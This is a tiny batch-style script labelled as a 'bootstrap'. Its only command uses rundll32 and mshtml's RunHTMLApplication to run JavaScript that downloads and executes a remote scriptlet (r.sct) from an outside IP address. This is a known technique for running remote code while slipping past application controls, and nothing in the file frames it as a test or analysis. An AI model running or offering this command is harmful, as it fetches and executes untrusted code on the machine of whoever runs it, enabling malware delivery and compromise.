REM bootstrap 8400 v2
rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://192.0.2.150/r.sct")
